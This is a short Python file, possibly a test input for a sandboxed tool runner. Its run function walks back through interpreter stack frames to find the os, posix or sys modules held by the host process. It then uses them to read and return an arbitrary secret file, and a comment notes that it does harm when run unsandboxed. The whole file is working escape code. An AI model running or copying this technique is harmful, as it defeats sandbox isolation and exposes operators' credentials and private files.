# Climb the frames to the globals of the process that runs the tool.
# This is tried without the sandbox too: there it does harm.
import sys


def run(c):
    frame, found = sys._getframe(), []
    while frame:
        found += [value for value in frame.f_globals.values() if getattr(value, "__name__", "") in ("posix", "os", "sys")]
        frame = frame.f_back
    for module in found:
        module = module.modules["posix"] if module.__name__ == "sys" else module
        return module.read(module.open(c["secret"], 0), 999).decode()
